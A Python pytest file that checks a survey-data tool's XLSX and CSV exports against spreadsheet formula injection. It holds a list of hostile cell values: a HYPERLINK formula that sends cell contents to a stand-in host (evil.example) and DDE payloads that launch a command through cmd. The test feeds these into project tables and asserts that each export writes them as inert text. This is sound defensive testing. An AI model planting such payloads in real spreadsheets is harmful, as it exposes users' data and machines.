"""Formula injection: every command that writes XLSX or CSV, run through the CLI on a project whose
department names, notes, addresses, matrix conditions and class names are hostile, writes no live formula.

A cell counts as live when an XLSX holds a ``<f>`` element (or openpyxl reads the cell as a formula), or a
CSV cell starts with ``=``, ``+``, ``-``, ``@``, TAB or CR and is not a plain number.  Each command must also
carry at least one hostile value into its output (neutralised), so the test fails if the data never gets
there."""
from __future__ import annotations

import csv
import re
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from export_fixture import assigned

from surveytools.tabular import FORMULA_START, is_formula_like, neutralise, neutralise_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 制表符",
    "\r=1+1 回车",
]
NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def _live_csv_cells(path: Path, encoding: str) -> tuple[list, set]:
    """(live formula cells, hostile values found neutralised)"""
    live, found = [], set()
    with open(path, newline="", encoding=encoding) as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] in FORMULA_START and not NUMBER.match(cell.strip()):
                    live.append(cell)
                if cell.startswith("'") and cell[1:] in HOSTILE:
                    found.add(cell[1:])
    return live, found


def _live_xlsx_cells(path: Path) -> tuple[list, set]:
    from openpyxl import load_workbook

    live, found = [], set()
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                live += [f"{name}: <f>"] * len(re.findall(r"<f[ >]", xml))
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    live.append(f"{ws.title}!{c.coordinate}={c.value!r}")
                if isinstance(c.value, str):
                    # a hostile value may be part of a longer text (a sentence naming it): still text
                    found |= {h for h in HOSTILE if h.strip() and h.strip() in c.value}
                    if c.value[:1] in FORMULA_START and not NUMBER.match(c.value.strip()) and not c.quotePrefix:
                        live.append(f"{ws.title}!{c.coordinate} without quotePrefix: {c.value!r}")
    return live, found


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory):
    src, _info, _ = assigned()
    d = tmp_path_factory.mktemp("hostile")
    p = d / "hostile.gpkg"
    shutil.copyfile(src, p)
    con = sqlite3.connect(p)
    with con:
        ids = [r[0] for r in con.execute("SELECT fid FROM departments ORDER BY fid LIMIT 6")]
        for fid, h in zip(ids, HOSTILE):
            con.execute("UPDATE departments SET name = ?, contact = ?, address = ? WHERE fid = ?", (h, h, h, fid))
        ids = [r[0] for r in con.execute("SELECT fid FROM dispatch_matrix ORDER BY fid LIMIT 6")]
        for fid, h in zip(ids, HOSTILE):
            con.execute("UPDATE dispatch_matrix SET filing_condition = ?, closing_condition = ?, note = ? WHERE fid = ?",
                        (h, h, h, fid))
        ids = [r[0] for r in con.execute("SELECT fid FROM dict_component_classes ORDER BY fid LIMIT 6")]
        for fid, h in zip(ids, HOSTILE):
            con.execute("UPDATE dict_component_classes SET notes = ? WHERE fid = ?", (h, fid))
    con.close()
    import pyogrio

    from surveytools import project as P

    proj = P.Project.open(p)
    pts = pyogrio.read_dataframe(p, layer="components_point")
    ev = pyogrio.read_dataframe(p, layer="events")
    for i, h in enumerate(HOSTILE):
        # ObjState outside its domain: the value reaches validation's error list
        pts.loc[pts.index[i], ["Note", "LocateDSC", "ObjName", "ObjState"]] = [h, h, h, h]
        ev.loc[ev.index[i], ["Descr", "Address"]] = [h, h]
    with proj.transaction() as work:
        P.write_project_layer(work, "component_point", pts)
        P.write_project_layer(work, "event", ev)
    from surveytools.geocode.ops import build

    root = Path(__file__).resolve().parents[1]
    build(project=str(p), date="2024-06-01", **{"from": [str(root / "sample_data/guixi/survey/doorplates.gpkg"),
                                                         f"{root / 'sample_data/guixi/base.gpkg'}:roads"]})
    return p


def test_neutralise_rules():
    for h in HOSTILE:
        assert is_formula_like(h) and neutralise(h) == "'" + h
    for ok in ("-5", "+3.25", "-1e3", "12", "正常文本", "a=b", "", "'=already"):
        assert not is_formula_like(ok) and neutralise(ok) == ok
    assert neutralise(-5) == -5 and neutralise(None) is None
    import pandas as pd

    df = pd.DataFrame({"n": [-5, 3], "t": ["-5", "=1+1"], "d": [pd.Timestamp("2024-01-01").date(), None]})
    out = neutralise_frame(df)
    assert out["n"].tolist() == [-5, 3] and out["n"].dtype.kind == "i"
    assert out["t"].tolist() == ["-5", "'=1+1"]
    assert df["t"].tolist() == ["-5", "=1+1"]  # the input frame is not changed


def test_xlsx_keeps_numbers_numeric(tmp_path):
    import pandas as pd
    from openpyxl import load_workbook

    from surveytools.tabular import write_frame_xlsx

    p = tmp_path / "t.xlsx"
    write_frame_xlsx(pd.DataFrame({"n": [-5, 2.5], "t": ["=1+1", "-5"]}), p)
    ws = load_workbook(p).active
    assert ws["A2"].value == -5 and ws["A2"].data_type == "n"
    assert ws["B2"].value == "=1+1" and ws["B2"].data_type == "s" and ws["B2"].quotePrefix
    assert ws["B3"].value == "-5" and ws["B3"].data_type == "s"


def test_every_xlsx_and_csv_writer_is_formula_free(hostile_project, cli, tmp_path):
    import pandas as pd

    p = str(hostile_project)
    out = tmp_path / "out"
    out.mkdir()
    runs = {}

    def run(name, args, files):
        rc, so, se = cli(args)
        assert rc == 0, f"{name}: {se}"
        runs[name] = files

    run("export manual", ["export", "manual", p, "--out", out / "manual", "--formats", "xlsx"], [out / "manual" / "manual.xlsx"])
    run("departments export", ["responsibility", "departments", p, "--export", out / "departments.xlsx"], [out / "departments.xlsx"])
    run("matrix export", ["responsibility", "matrix", p, "--export", out / "matrix.xlsx"], [out / "matrix.xlsx"])
    rc, so, se = cli(["validate", p, "--out", out / "qc", "--no-write-project"])
    assert rc in (0, 2) and (out / "qc" / "report.xlsx").exists(), se
    runs["validate"] = [out / "qc" / "report.xlsx"]
    run("components template", ["components", "template", out / "template.xlsx", "--classes", "0101,0118", "--project", p],
        [out / "template.xlsx"])
    addr = pd.DataFrame({"address": ["贵溪市雄石路12号", *HOSTILE], "note": [HOSTILE[0], *HOSTILE]})
    addr.to_csv(tmp_path / "addr.csv", index=False, encoding="utf-8")
    for ext in ("csv", "xlsx"):
        run(f"geocode batch {ext}", ["geocode", "batch", p, tmp_path / "addr.csv", "--column", "address", "--out",
                                     out / f"geocoded.{ext}"], [out / f"geocoded.{ext}"])
    run("export files csv", ["export", "files", p, "--format", "csv", "--out", out / "files_csv"],
        sorted((out / "files_csv").rglob("*.csv")) if (out / "files_csv").exists() else None)
    runs["export files csv"] = sorted((out / "files_csv").rglob("*.csv"))
    run("export files shp", ["export", "files", p, "--format", "shp", "--out", out / "files_shp"], None)
    runs["export files shp"] = sorted((out / "files_shp").rglob("*.csv"))
    classes = tmp_path / "official.csv"
    classes.write_text("代码,部件名称,空间类型,定位精度\n0101," + HOSTILE[0].replace('"', '""').join('""') + ",点,A\n"
                       "2101,\"" + HOSTILE[1] + "\",点,B\n", encoding="utf-8")
    rc, so, se = cli(["profile", "import-classes", "--source", classes, "--out", out / "city", "--id", "gx", "--skip-invalid"])
    assert rc in (0, 2) and (out / "city" / "mapping_report.csv").exists(), se
    runs["profile import-classes"] = [out / "city" / "mapping_report.csv"]

    problems, carried = [], {}
    for name, files in runs.items():
        assert files, name
        found = set()
        for f in files:
            assert f.exists(), f
            if f.suffix == ".xlsx":
                live, got = _live_xlsx_cells(f)
            else:
                enc = "gbk" if name == "export files shp" and f.parent.name == "tables" else "utf-8-sig"
                live, got = _live_csv_cells(f, enc)
            problems += [f"{name} {f.name}: {c!r}" for c in live]
            found |= got
        carried[name] = found
    assert not problems, problems[:20]
    missing = [n for n, f in carried.items() if not f]
    assert not missing, f"no hostile value reached the output of {missing}: the sweep would prove nothing there"
